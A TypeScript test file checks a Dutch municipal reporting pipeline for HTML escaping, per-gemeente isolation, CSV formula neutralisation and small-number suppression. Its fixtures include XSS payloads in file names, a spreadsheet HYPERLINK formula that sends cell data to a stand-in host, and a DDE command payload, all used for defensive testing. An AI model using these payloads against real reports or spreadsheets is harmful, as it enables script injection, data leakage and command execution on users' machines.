/**
 * What reaches a report or an export from a delivery cannot act: file names, reasons and codes are escaped
 * in the data-quality section, a CSV cell cannot be a formula, a gemeente's section shows nothing of another
 * gemeente and nothing record-level. And the small-numbers rule: no count 1–9, no share on fewer than 20,
 * no suppressed figure recoverable from the region minus the others.
 */
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { toCsvNl } from '../../pipelines/export/csv.js';
import { ingestInbox } from '../../pipelines/ingest/index.js';
import type { Warehouse } from '../../pipelines/lib/db.js';
import { memoryLogger } from '../../pipelines/lib/log.js';
import { loadProfiles } from '../../pipelines/lib/profiles.js';
import { SecretKey } from '../../pipelines/lib/pseudonym.js';
import { openWarehouse } from '../../pipelines/lib/warehouse.js';
import { MIN_DENOMINATOR, publishCount, publishShare } from '../../reports/disclosure.js';
import { renderQuality } from '../../reports/quality.js';
import { readDataQuality } from '../../reports/queries.js';
import { jw301 } from '../ingest-ijw/messages.js';
import { csv, UITKOMSTEN_HEADER, uitkomst } from '../ingest-tabular/helpers.js';

const clock = () => new Date('2026-11-23T02:00:00Z');
const key = new SecretKey('hardening-key-0123456789abcdef0123456789', 'pseudonym');
const XSS_NAME = 'uitkomsten_20261101 <img src=x onerror=alert(1)>.csv';
const XSS_UNKNOWN = `"><svg onload=alert(2)>.txt`;

describe('output safety of the data-quality section', () => {
  let db: Warehouse;
  let zwolle: string;
  let deventer: string;
  let region: string;

  beforeAll(async () => {
    const inbox = join(mkdtempSync(join(tmpdir(), 'rijm-hard-')), 'inbox');
    const put = (path: string, content: string) => {
      mkdirSync(join(inbox, path, '..'), { recursive: true });
      writeFileSync(join(inbox, path), content);
    };
    put(
      `GM0193/${XSS_NAME}`,
      csv([
        UITKOMSTEN_HEADER,
        uitkomst({ toewijzingnummer: '77001' }),
        uitkomst({ gemeente: 'GM0150', toewijzingnummer: '77002' }),
        uitkomst({ productcode: '<b>X</b>', toewijzingnummer: '77003' }),
      ]),
    );
    put(`GM0193/${XSS_UNKNOWN}`, 'x');
    put('GM0193/ijw_ander.xml', jw301({ gemeente: '0150', products: [{ nummer: '77004' }] }));
    put('GM0150/deventer_geheim_bestand.txt', 'x');
    db = await openWarehouse(':memory:');
    await ingestInbox(db, {
      inbox,
      archiveDir: join(inbox, '..', 'archive'),
      key,
      runId: 'out1',
      log: memoryLogger(clock),
      clock,
      profiles: loadProfiles(),
    });
    const q = await readDataQuality(db);
    const naam = (code: string) => code;
    zwolle = renderQuality(q.for('GM0193'), '2026-11-01', false, naam).toString();
    deventer = renderQuality(q.for('GM0150'), '2026-11-01', false, naam).toString();
    region = renderQuality(q.for(null), '2026-11-01', true, naam).toString();
  });

  it('escapes file names, reasons and codes from deliveries', () => {
    for (const page of [zwolle, region]) {
      expect(page).toContain('&lt;img src=x onerror=alert(1)&gt;');
      expect(page).not.toMatch(/<img|<svg|<b>|<script/i);
      expect(page).not.toContain('"><');
    }
  });

  it("shows a gemeente nothing of another gemeente's files", () => {
    expect(zwolle).not.toContain('deventer_geheim_bestand');
    expect(deventer).not.toContain('onerror');
    expect(deventer).toContain('deventer_geheim_bestand');
  });

  it('shows no record-level data: no toewijzingnummers, pseudonyms or rejected values', async () => {
    const ids = await db.all<{ id: string }>(
      'select client_id as id from raw.uitkomsten union select value from meta.quarantine where value is not null',
    );
    expect(ids.length).toBeGreaterThan(0);
    for (const page of [zwolle, deventer, region]) {
      for (const n of ['77001', '77002', '77003', '77004']) expect(page).not.toContain(n);
      for (const { id } of ids)
        if (id.length >= 5 && !/^GM[0-9]{4}$/.test(id)) expect(page).not.toContain(id);
    }
  });
});

describe('CSV exports cannot execute formulas', () => {
  const hostile = [
    '=HYPERLINK("http://x/?"&A1,"klik")',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '=1;=2',
    '"=1"',
    "cmd|' /C calc'!A0",
  ];

  it('neutralises every cell a spreadsheet would read as a formula', () => {
    const text = toCsvNl(
      ['waarde'],
      hostile.map((h) => [h]),
    );
    const rows = parse(text.replace(/^\uFEFF/, ''), { delimiter: ';', relax_quotes: false }) as string[][];
    expect(rows.slice(1).map((r) => r[0])).toHaveLength(hostile.length);
    for (const [cell] of rows.slice(1)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Numbers stay numbers.
    expect(toCsvNl(['n'], [[-3], [0.5]])).toContain('-3\r\n0,5');
  });
});

describe('the small-numbers rule', () => {
  it('never shows a count of 1–9 and rounds every other count to a multiple of 5', () => {
    for (let raw = 0; raw <= 500; raw++) {
      const p = publishCount(raw);
      if (raw >= 1 && raw <= 9) expect(p.value).toBeNull();
      else {
        expect(p.value! % 5).toBe(0);
        expect(p.value === 0 || p.value! >= 10).toBe(true);
      }
    }
  });

  it('never shows a share on a denominator under 20', () => {
    for (let noemer = 0; noemer < 60; noemer++) {
      for (let teller = 0; teller <= noemer; teller += 3) {
        const p = publishShare({ teller, noemer });
        if (noemer < MIN_DENOMINATOR) expect(p.value).toBeNull();
        else expect(p.value).toBeCloseTo(teller / noemer);
        if (p.n?.value !== null && p.n?.value !== undefined) expect(p.n.value % 5).toBe(0);
      }
    }
  });

  it('the region minus the other gemeenten leaves a suppressed count open, except at the rounding edges', () => {
    // The region is rounded on its own (indicators.md §3). For every suppressed count (1–9) and two other
    // gemeenten, count the values of the suppressed count that fit all published figures.
    const others = [0, 3, 12, 14, 27, 48, 101];
    const pinned: string[] = [];
    for (const hidden of [1, 2, 3, 4, 5, 6, 7, 8, 9]) {
      for (const a of others) {
        for (const b of others) {
          const published = (h: number) =>
            JSON.stringify([
              publishCount(h + a + b).value,
              publishCount(h).value,
              publishCount(a).value,
              publishCount(b).value,
            ]);
          const fits = [1, 2, 3, 4, 5, 6, 7, 8, 9].filter((h) => published(h) === published(hidden));
          expect(fits).toContain(hidden);
          if (fits.length === 1) pinned.push(`${hidden}+${a}+${b}`);
        }
      }
    }
    // Rounding to 5 alone narrows the suppressed count to at most a few values, and in some combinations to
    // one: the rule of indicators.md §3 does not exclude that (docs/beveiliging.md names it as a known gap).
    expect(pinned.length).toBeGreaterThan(0);
    expect(pinned).toContain('1+0+101');
  });
});
